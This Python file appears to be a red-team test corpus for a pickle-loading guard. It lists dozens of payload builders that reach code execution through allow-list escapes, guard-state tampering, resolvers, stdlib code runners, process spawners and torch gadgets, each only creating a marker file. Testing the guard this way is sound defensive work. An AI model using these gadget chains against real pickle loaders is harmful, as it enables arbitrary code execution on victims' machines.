"""Red-team payloads by technique family: each is an expression (see ``asm``) that, when
unpickled without the guard, creates the marker file ``$WARDEN_CORPUS_MARKERS/<file id>``.

The marker folder comes from the environment of the process that loads the file, so one file
proves itself in several runs (no guard, default, strict) with a fresh folder each time, and
payloads that start another process (pip's build hook, venv, spawn) reach it too.
"""

import os

from asm import Build, Call, G, Raw, Seq, SetItem

MARKER_ENV = "WARDEN_CORPUS_MARKERS"

# The sys.modules key the guard kept its state under before issue 12 (a tamper target).
GUARD_STATE_KEY = "_jupyterlab_warden_guard_active"


def shell(fid):
    """A /bin/sh command that creates the marker."""
    return f'touch "${MARKER_ENV}/{fid}"'


def pycode(fid):
    """A Python statement (also an expression) that creates the marker."""
    return f"open(__import__('os').environ[{MARKER_ENV!r}] + '/{fid}', 'w').close()"


def os_system(fid):
    return Call(G("os", "system"), shell(fid))


# --- family: wildcard-module escapes (a `module.*` allow entry reaching builtins or sys) ---


def wc_datetime_builtins_get(fid, ctx):
    return Call(Call(G("datetime", "__builtins__.get"), "eval"), pycode(fid))


def wc_datetime_sys_call_tracing(fid, ctx):
    return Call(G("datetime", "sys.call_tracing"), G("builtins", "exec"), (pycode(fid),))


def wc_ipaddress_builtins_get(fid, ctx):
    return Call(Call(G("ipaddress", "__builtins__.get"), "eval"), pycode(fid))


def wc_c_datetime_loader_builtins(fid, ctx):
    # _datetime is a C module (no __builtins__), but its spec's loader has Python methods
    name = "__spec__.loader.__init__.__builtins__.get"
    return Call(Call(G("_datetime", name), "exec"), pycode(fid))


def wc_numpy_dtypes_builtins(fid, ctx):
    return Call(Call(G("numpy.dtypes", "__builtins__.get"), "eval"), pycode(fid))


def wc_numpy_random_pickle_builtins(fid, ctx):
    return Call(Call(G("numpy.random._pickle", "__builtins__.get"), "eval"), pycode(fid))


# --- family: guard-state tampering (SETITEM into sys.modules, then a plain os.system) ---


def tamper_then_system(fid, ctx):
    sys_modules = G("datetime", "sys.modules")
    return Seq(SetItem(sys_modules, GUARD_STATE_KEY, None), os_system(fid))


def tamper_install_audit(fid, ctx):
    """Data that calls the guard's own API to loosen it (audit mode records, never refuses),
    then os.system. Without a guard the call installs one in audit mode, so the payload runs."""
    loosen = Call(G("jupyterlab_warden.kernel.guard", "install"), {"pickle": {"mode": "audit"}})
    return Seq(loosen, os_system(fid))


# --- family: other calling opcodes and spellings (whole pickles, see ``asm.Raw``) ---


def inst_os_system(fid, ctx):
    """Protocol 0 INST: MARK args, then 'i module\\nname\\n' calls the global with them."""
    cmd = shell(fid).replace("\\", "\\u005c").encode("raw-unicode-escape")
    return Raw(b"(V" + cmd + b"\nios\nsystem\n")


def obj_resolve_name(fid, ctx):
    """Protocol 1 OBJ: MARK callable args 'o' calls the callable."""
    import asm

    resolve = asm.body(Call(G("pkgutil", "resolve_name"), "os:system"))
    return Raw(b"(" + resolve + asm.body(shell(fid)) + b"o")


def py2_builtin_eval(fid, ctx):
    """Protocol 2 GLOBAL with a Python 2 module name, mapped to builtins by fix_imports."""
    return Call(Raw(b"c__builtin__\neval\n"), pycode(fid))


# --- family: the user's own modules (outside site-packages, trusted by location) ---


def user_module_reexport(fid, ctx):
    """project_utils.getoutput *is* subprocess.getoutput: judged by what it is, not where."""
    return Call(G("project_utils", "getoutput"), shell(fid))


# --- family: resolvers (a string names the real target) ---


def torch_import_dotted_name(fid, ctx):
    return Call(Call(G("torch._utils", "_import_dotted_name"), "os.system"), shell(fid))


def pkgutil_resolve_name(fid, ctx):
    return Call(Call(G("pkgutil", "resolve_name"), "os:system"), shell(fid))


def pydoc_locate(fid, ctx):
    return Call(Call(G("pydoc", "locate"), "os.system"), shell(fid))


# --- family: code runners (stdlib tools that exec a string) ---


def timeit_timer(fid, ctx):
    return Call(G("timeit", "Timer.timeit"), Call(G("timeit", "Timer"), pycode(fid)), 1)


def cprofile_run(fid, ctx):
    return Call(G("cProfile", "run"), pycode(fid))


def profile_run(fid, ctx):
    return Call(G("profile", "run"), pycode(fid))


def bdb_run(fid, ctx):
    return Call(G("bdb", "Bdb.run"), Call(G("bdb", "Bdb")), pycode(fid))


def pdb_run(fid, ctx):
    # the debugger reads its commands from a StringIO ('continue' runs the statement); BUILD
    # turns off use_rawinput, which Python 3.11 leaves on even when stdin is given
    debugger = Call(G("pdb", "Pdb"), "tab", Call(G("io", "StringIO"), "continue\n"))
    debugger = Build(debugger, {"use_rawinput": 0})
    return Call(G("pdb", "Pdb.run"), debugger, pycode(fid))


def doctest_docstring(fid, ctx):
    # doctest treats a str as a docstring and runs its examples
    return Call(G("doctest", "run_docstring_examples"), ">>> " + pycode(fid) + "\n", {})


def trace_runctx(fid, ctx):
    tracer = Call(G("trace", "Trace"), 0, 0)
    return Call(G("trace", "Trace.runctx"), tracer, pycode(fid), {}, {})


def code_runsource(fid, ctx):
    interp = Call(G("code", "InteractiveInterpreter"))
    return Call(G("code", "InteractiveInterpreter.runsource"), interp, pycode(fid))


def runpy_run_path(fid, ctx):
    script = os.path.join(ctx["workdir"], f"{fid}.py")
    with open(script, "w") as fh:
        fh.write(pycode(fid) + "\n")
    return Call(G("runpy", "run_path"), script)


def runpy_run_code(fid, ctx):
    return Call(G("runpy", "_run_code"), pycode(fid), {})


# --- family: operator getters (reach sys through a plain-data class's function globals) ---


def _operator_chain(fid, mod):
    counter_globals = Call(
        Call(G(mod, "attrgetter"), "__init__.__globals__"), G("collections", "Counter")
    )
    the_sys = Call(Call(G(mod, "itemgetter"), "_sys"), counter_globals)
    posix = Call(Call(G(mod, "attrgetter"), "modules.get"), the_sys)
    posix = Call(posix, "posix")
    return Call(Call(G(mod, "methodcaller"), "system", shell(fid)), posix)


def operator_chain(fid, ctx):
    return _operator_chain(fid, "operator")


def c_operator_chain(fid, ctx):
    return _operator_chain(fid, "_operator")


# --- family: nested unpickling ---


def nested_pickle_loads(fid, ctx):
    import asm

    return Call(G("pickle", "loads"), asm.dumps(os_system(fid)))


def nested_c_pickle_loads(fid, ctx):
    import asm

    return Call(G("_pickle", "loads"), asm.dumps(os_system(fid)))


# --- family: installers and environment builders ---


def pip_main(fid, ctx):
    src = os.path.join(ctx["workdir"], f"{fid}-pkg")
    os.makedirs(src, exist_ok=True)
    with open(os.path.join(src, "setup.py"), "w") as fh:
        fh.write(
            pycode(fid) + "\nfrom setuptools import setup\nsetup(name='corpuspkg', version='0')\n"
        )
    target = os.path.join(ctx["workdir"], f"{fid}-target")
    args = ["install", "-q", "--no-index", "--no-build-isolation", "--no-deps"]
    args += ["--target", target, src]
    return Call(G("pip", "main"), args)


def ensurepip_run_pip(fid, ctx):
    # _run_pip formats additional_paths into the code it runs with -c: a str goes in verbatim
    injected = f"[] if {pycode(fid)} else []"
    return Call(G("ensurepip", "_run_pip"), [], injected)


def venv_call_new_python(fid, ctx):
    context = Build(
        Call(G("types", "SimpleNamespace")),
        {"env_exec_cmd": "/bin/sh", "env_dir": ctx["workdir"]},
    )
    builder = Call(G("venv", "EnvBuilder"))
    return Call(G("venv", "EnvBuilder._call_new_python"), builder, context, "-c", shell(fid))


def logging_dictconfig(fid, ctx):
    # a handler factory named by string: dictConfig resolves and calls it with the kwargs
    config = {
        "version": 1,
        "handlers": {"h": {"()": "subprocess.getoutput", "cmd": shell(fid)}},
    }
    return Call(G("logging.config", "dictConfig"), config)


def osx_support_read_output(fid, ctx):
    return Call(G("_osx_support", "_read_output"), shell(fid))


def uuid_command_stdout(fid, ctx):
    return Call(G("uuid", "_get_command_stdout"), "sh", "-c", shell(fid))


def idlelib_calltip_get_entity(fid, ctx):
    return Call(G("idlelib.calltip", "get_entity"), pycode(fid))


# --- family: file writes (the loader runs in the marker folder: a relative name lands there) ---


def pathlib_write_text(fid, ctx):
    path = Call(G("pathlib", "PosixPath"), fid)
    return Call(G("pathlib", "Path.write_text"), path, "import os  # planted\n")


def io_fileio(fid, ctx):
    return Call(G("_io", "FileIO"), fid, "w")


def torch_save(fid, ctx):
    return Call(G("torch", "save"), {"planted": 1}, fid)


def numpy_savetxt(fid, ctx):
    return Call(G("numpy", "savetxt"), fid, [1.0, 2.0])


def numpy_tofile(fid, ctx):
    return Call(G("numpy", "ndarray.tofile"), Call(G("numpy", "arange"), 3), fid)


def pandas_to_csv(fid, ctx):
    frame = Call(G("pandas", "DataFrame"), {"a": [1, 2]})
    return Call(G("pandas", "DataFrame.to_csv"), frame, fid)


def logging_file_handler(fid, ctx):
    """A class whose construction opens (creates) a file."""
    return Call(G("logging", "FileHandler"), fid)


def zipfile_create(fid, ctx):
    return Call(G("zipfile", "ZipFile"), fid, "w")


def numpy_memmap_create(fid, ctx):
    """A curated library's array class whose construction creates a file."""
    return Call(G("numpy", "memmap"), fid, "uint8", "w+", 0, (4,))


def torch_from_file_shared(fid, ctx):
    return Call(G("torch", "from_file"), fid, True, 4)


# --- family: process spawners ---


def posixsubprocess_fork_exec(fid, ctx):
    # Python 3.11's signature. env None keeps the environment; errpipe_read is stdin (the
    # child closes it); errpipe_write is stderr (written to only if exec fails); nothing closed
    argv = [b"/bin/sh", b"-c", shell(fid).encode()]
    args = [argv, [b"/bin/sh"], False, (), None, None, -1, -1, -1, -1, -1, -1, 0, 2]
    args += [False, False, -1, None, None, None, -1, None, False]
    return Call(G("_posixsubprocess", "fork_exec"), *args)


def subinterpreter_run_string(fid, ctx):
    interp = Call(G("_xxsubinterpreters", "create"))
    return Call(G("_xxsubinterpreters", "run_string"), interp, pycode(fid))


def asyncio_subprocess_transport(fid, ctx):
    loop = Call(G("asyncio", "new_event_loop"))
    protocol = Call(G("asyncio", "SubprocessProtocol"))
    transport = G("asyncio.unix_events", "_UnixSubprocessTransport")
    return Call(transport, loop, protocol, shell(fid), True, None, None, None, 0)


def mp_spawnv_passfds(fid, ctx):
    argv = [b"/bin/sh", b"-c", shell(fid).encode()]
    return Call(G("multiprocessing.util", "spawnv_passfds"), b"/bin/sh", argv, [])


def loky_fork_exec(fid, ctx):
    fork_exec = G("joblib.externals.loky.backend.fork_exec", "fork_exec")
    return Call(fork_exec, ["/bin/sh", "-c", shell(fid)], [])


# --- family: torch gadgets ---


def torch_dynamo_load_config(fid, ctx):
    import asm

    return Call(G("torch._dynamo.config", "load_config"), asm.dumps(os_system(fid)))


def torch_jit_exec_wrapper(fid, ctx):
    return Call(G("torch.jit.unsupported_tensor_ops", "execWrapper"), pycode(fid), {}, {})


def torch_collect_env_run(fid, ctx):
    return Call(G("torch.utils.collect_env", "run"), shell(fid))


def torch_elastic_subprocess_handler(fid, ctx):
    handler = G(
        "torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler",
        "SubprocessHandler",
    )
    return Call(handler, "/bin/sh", ("-c", shell(fid)), {}, None, None, 0, None)


def plain_os_system(fid, ctx):
    return os_system(fid)
